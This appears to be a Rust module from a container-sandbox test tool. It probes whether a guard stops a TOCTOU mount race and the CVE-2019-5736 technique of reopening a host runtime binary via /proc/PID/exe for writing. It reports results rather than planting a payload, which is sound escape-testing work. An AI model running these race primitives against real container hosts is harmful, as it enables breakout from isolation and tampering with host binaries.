//! The racing attacks: they need a second thread or a loop over time, so
//! they report counts rather than one syscall's result.

use std::collections::HashSet;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::sync::atomic::{AtomicBool, AtomicU8, Ordering};
use std::time::{Duration, Instant};

/// The path buffer both threads share; the kernel reads it as a C string.
static PATH: [AtomicU8; 64] = [const { AtomicU8::new(0) }; 64];
static STOP: AtomicBool = AtomicBool::new(false);

fn store(p: &str) {
    let bytes = p.as_bytes();
    for (i, slot) in PATH.iter().enumerate().take(63) {
        slot.store(bytes.get(i).copied().unwrap_or(0), Ordering::Relaxed);
    }
}

fn spin(n: u32) {
    for _ in 0..n {
        std::hint::spin_loop();
    }
}

/// Attack 14: one thread makes a vetted mount call on a path another thread
/// keeps rewriting, between one the guard allows (`allowed`, the
/// container's own tmpfs) and one it refuses (`forbidden`). `remount`
/// remounts read-write, `umount` unmounts (remounting the tmpfs each time).
/// Prints how many calls succeeded; the scenario then checks that the
/// forbidden mount is unchanged.
pub fn toctou(mode: &str, n: u32, allowed: &str, forbidden: &str) -> i32 {
    if !matches!(mode, "remount" | "umount") || allowed.len() > 62 || forbidden.len() > 62 {
        eprintln!("usage: hull-probe toctou remount|umount N ALLOWED FORBIDDEN");
        return 2;
    }
    store(allowed);
    let (a, b) = (allowed.to_string(), forbidden.to_string());
    // Equal time on each path, so both the check and the use see both.
    let flipper = std::thread::spawn(move || {
        while !STOP.load(Ordering::Relaxed) {
            store(&b);
            spin(2000);
            store(&a);
            spin(2000);
        }
    });
    let ptr = PATH.as_ptr().cast::<libc::c_char>();
    let tmpfs = crate::c("tmpfs");
    let own = crate::c(allowed);
    let mut ok = 0u32;
    for _ in 0..n {
        // SAFETY: PATH is a static, always NUL-terminated (byte 63 is never
        // written); the other pointers are live CStrings.
        let r = unsafe {
            if mode == "umount" {
                libc::mount(
                    tmpfs.as_ptr(),
                    own.as_ptr(),
                    tmpfs.as_ptr(),
                    0,
                    std::ptr::null(),
                );
                libc::umount2(ptr, 0)
            } else {
                libc::mount(
                    std::ptr::null(),
                    ptr,
                    std::ptr::null(),
                    libc::MS_REMOUNT | libc::MS_BIND,
                    std::ptr::null(),
                )
            }
        };
        if r == 0 {
            ok += 1;
        }
    }
    STOP.store(true, Ordering::Relaxed);
    let _ = flipper.join();
    println!("RACED ok={ok} calls={n}");
    0
}

#[derive(Default)]
struct ExeRace {
    pids: u32,
    /// /proc/PID/exe opened (O_PATH) for a binary outside the container's root filesystem.
    foreign: u32,
    /// /proc/PID/exe refused (EACCES/EPERM: the process is not dumpable).
    refused: u32,
    /// The process was gone before its exe could be opened.
    gone: u32,
    /// Reopen-for-write attempts on foreign binaries that failed.
    write_refused: u32,
    written: Vec<String>,
}

/// Attack 7 (CVE-2019-5736): watch for every new process in the container
/// (e.g. the runtime entering it for `docker exec`), grab its executable
/// through /proc/PID/exe and try to reopen that for writing. Runs for
/// `seconds` or until `stop_file` exists.
pub fn exe_race(seconds: u64, stop_file: &str) -> i32 {
    let me = std::process::id();
    let Ok(root) = std::fs::metadata("/") else {
        println!("DENIED stat / failed");
        return 0;
    };
    use std::os::unix::fs::MetadataExt;
    let root_dev = root.dev();
    let end = Instant::now() + Duration::from_secs(seconds);
    let mut seen: HashSet<u32> = HashSet::new();
    let mut r = ExeRace::default();
    while Instant::now() < end && !std::path::Path::new(stop_file).exists() {
        let Ok(dir) = std::fs::read_dir("/proc") else {
            break;
        };
        for e in dir.flatten() {
            let Some(pid) = e.file_name().to_str().and_then(|s| s.parse::<u32>().ok()) else {
                continue;
            };
            if pid == me || !seen.insert(pid) {
                continue;
            }
            r.pids += 1;
            try_exe(pid, root_dev, &mut r);
        }
        std::thread::yield_now();
    }
    // The stop file's writer (a `docker exec`) is still in the container
    // when the file appears; if this init exited now, the kernel would
    // SIGKILL it with the pid namespace and the exec would report 137.
    let settle = Instant::now() + Duration::from_secs(30);
    while others_alive(me) && Instant::now() < settle {
        std::thread::sleep(Duration::from_millis(20));
    }
    if r.written.is_empty() {
        println!(
            "DENIED pids={} foreign={} exe_refused={} gone={} write_refused={}",
            r.pids, r.foreign, r.refused, r.gone, r.write_refused
        );
        0
    } else {
        println!("ALLOWED opened for writing: {}", r.written.join(" "));
        1
    }
}

/// Whether any process other than `me` still runs in this pid namespace
/// (zombies have exited: their status is already fixed).
fn others_alive(me: u32) -> bool {
    let Ok(dir) = std::fs::read_dir("/proc") else {
        return false;
    };
    dir.flatten().any(|e| {
        let Some(pid) = e.file_name().to_str().and_then(|s| s.parse::<u32>().ok()) else {
            return false;
        };
        if pid == me {
            return false;
        }
        // The state follows the last ')' (the command name may hold one).
        std::fs::read_to_string(format!("/proc/{pid}/stat"))
            .ok()
            .and_then(|s| {
                s.rsplit_once(')')
                    .map(|(_, rest)| rest.trim_start().starts_with('Z'))
            })
            .is_some_and(|zombie| !zombie)
    })
}

fn try_exe(pid: u32, root_dev: u64, r: &mut ExeRace) {
    let p = crate::c(&format!("/proc/{pid}/exe"));
    // SAFETY: p is a live CString; the fd returned is owned below.
    let fd = unsafe { libc::open(p.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
    if fd < 0 {
        if matches!(crate::errno(), libc::EACCES | libc::EPERM) {
            r.refused += 1;
        } else {
            r.gone += 1;
        }
        return;
    }
    // SAFETY: fd was just returned by open and nothing else owns it.
    let fd = unsafe { OwnedFd::from_raw_fd(fd) };
    // SAFETY: an all-zero stat is a valid out-buffer for fstat.
    let mut st: libc::stat = unsafe { std::mem::zeroed() };
    // SAFETY: fd is open and st is a valid out-buffer.
    if unsafe { libc::fstat(fd.as_raw_fd(), &mut st) } != 0 || st.st_dev == root_dev {
        // The container's own binaries are its own to rewrite.
        return;
    }
    r.foreign += 1;
    let via = crate::c(&format!("/proc/self/fd/{}", fd.as_raw_fd()));
    // The real attack retries while the runtime still runs (ETXTBSY) until it
    // has exec'd into the container's command.
    let until = Instant::now() + Duration::from_millis(500);
    while Instant::now() < until {
        // SAFETY: via is a live CString.
        let w = unsafe { libc::open(via.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
        if w >= 0 {
            // SAFETY: w was just opened here.
            drop(unsafe { OwnedFd::from_raw_fd(w) });
            let target = std::fs::read_link(format!("/proc/self/fd/{}", fd.as_raw_fd()))
                .map(|l| l.display().to_string())
                .unwrap_or_default();
            r.written.push(format!("pid {pid} {target}"));
            return;
        }
        if crate::errno() != libc::ETXTBSY {
            break;
        }
        std::thread::yield_now();
    }
    r.write_refused += 1;
}
